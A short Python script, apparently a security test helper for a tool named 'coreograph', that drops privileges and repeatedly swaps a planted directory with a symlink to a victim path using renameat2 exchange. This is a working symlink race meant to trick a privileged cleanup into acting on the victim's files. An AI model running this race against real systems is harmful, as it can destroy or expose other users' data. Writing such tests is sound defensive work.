"""As another user: puts a folder of files into the recorder's folder, and while this is taken away lets
a link to the folder in its argument take turns with it."""
import ctypes
import os
import sys
import time

victim = sys.argv[1].encode()
rings = os.environb[b"COREOGRAPH_PROBE_DIRECTORY"]
if os.fork() == 0:
    os.setsid()
    for stream in range(3):
        os.dup2(os.open("/dev/null", os.O_RDWR), stream)
    os.setgroups([])
    os.setgid(65534)
    os.setuid(65534)
    os.mkdir(rings + b"/a")
    for name in os.listdir(victim):
        os.close(os.open(rings + b"/a/" + name, os.O_CREAT))
    os.symlink(victim, rings + b"/b")
    os.close(os.open(rings + b"/ready", os.O_CREAT, 0o600))
    exchange = ctypes.CDLL(None).renameat2
    end = time.monotonic() + 2
    while time.monotonic() < end and exchange(-100, rings + b"/a", -100, rings + b"/b", 2) == 0:
        pass
    os._exit(0)
while not os.path.exists(rings + b"/ready"):
    time.sleep(0.01)
